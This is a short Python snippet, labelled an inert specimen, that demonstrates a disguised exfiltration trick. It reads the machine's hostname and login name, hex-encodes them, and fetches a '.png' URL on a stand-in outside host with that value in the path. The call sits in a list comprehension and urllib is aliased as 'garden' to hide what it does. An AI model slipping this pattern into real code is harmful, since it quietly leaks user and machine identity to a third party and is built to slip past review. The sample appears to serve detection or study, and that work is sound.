# Inert specimen. Trick: the machine's name is hexadecimal and part of the path, the call in a list comprehension.
import os
import urllib.request as garden

mark = "-".join([os.uname().nodename, os.getlogin()]).encode().hex()
[garden.urlopen(f"https://{host}/p/{mark}.png") for host in ("probe.garden-seeds.invalid",)]
